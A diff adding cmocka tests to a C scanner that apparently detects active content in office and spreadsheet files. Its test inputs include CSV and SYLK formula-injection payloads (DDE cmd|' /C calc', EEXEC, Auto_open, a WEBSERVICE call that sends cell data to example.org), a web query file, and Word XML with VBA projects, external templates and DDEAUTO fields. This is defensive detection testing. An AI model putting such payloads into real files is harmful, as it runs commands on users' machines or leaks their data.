@@ -212,13 +212,46 @@ static void rich_text(void **state)
 	survives_cutting(cut, sizeof(cut) - 1, "a.rtf", NULL, "text/rtf");
 }
 
+#define CSV(text) look_text(text, "a.csv", NULL, "text/csv")
+
+static void tables(void **state)
+{
+	ACTIVE(CSV("a,b\n1,\"=cmd|' /C calc, x'!A0\"\n"), "cmd|");
+	ACTIVE(CSV("x;@SUM(1+1)*cmd|' /C calc'!A0"), "DDE");
+	ACTIVE(CSV("x\t=WEBSERVICE(\"http://example.org/?\"&A1)"), "calls out");
+	ACTIVE(look_text("ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n", "a.txt", NULL, "text/plain"), "SYLK");
+	ACTIVE(look_text("ID;P\nNN;NAuto_open;ER1C1\n", "a.slk", NULL, "text/plain"), "by itself");
+	ACTIVE(look_text("WEB\r\n1\r\nhttp://example.org/x\r\n", "a.iqy", NULL, "text/plain"), "example.org");
+	said_nothing(CSV("name,value\n-5,a|b!c\n+49 30 1234,x\n=A1+B1,@home\n-recall(x),y\n"));
+	said_nothing(CSV("--,==,|!\n-a b | c!\n"));
+	silent_text("=cmd|' /C calc'!A0", "notes.txt", NULL, "text/plain");
+	silent_text("ID;PWXL;N;E\nC;X1;Y1;K\"call(\"\n", "a.slk", NULL, "text/plain");
+}
+
+#define FLAT "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package " \
+	     "xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\" xmlns:w=\"w\">"
+
+static void flat_documents(void **state)
+{
+	ACTIVE(look_text(FLAT "<pkg:part pkg:name=\"/word/vbaProject.bin\"/></pkg:package>", "a.xml", NULL, "text/xml"), "a VBA project");
+	ACTIVE(look_text(FLAT "<Relationship Type=\"x/attachedTemplate\" Target=\"http://e/\" TargetMode=\"External\"/></pkg:package>", "a.xml",
+			 NULL, "text/xml"),
+	       "http://e/");
+	ACTIVE(look_text(FLAT "<w:instrText>DDEAUTO a b</w:instrText></pkg:package>", "a.doc", NULL, "text/xml"), "DDEAUTO");
+	ACTIVE(look_text("<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"/>", "a.xml",
+			 NULL, "text/xml"),
+	       "macros");
+	silent_text(FLAT "<pkg:part pkg:name=\"/word/document.xml\"/></pkg:package>", "a.xml", NULL, "text/xml");
+	silent_text("<a b=\"word/vbaProject.bin\"/>", "a.xml", NULL, "text/xml");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(relations_that_load), cmocka_unit_test(relations_that_do_not), cmocka_unit_test(relations_that_lie),
 		cmocka_unit_test(too_deep),	       cmocka_unit_test(fields),		cmocka_unit_test(deep_fields),
 		cmocka_unit_test(parts),	       cmocka_unit_test(content_types),		cmocka_unit_test(open_document),
-		cmocka_unit_test(rich_text),
+		cmocka_unit_test(rich_text),	       cmocka_unit_test(tables),		cmocka_unit_test(flat_documents),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
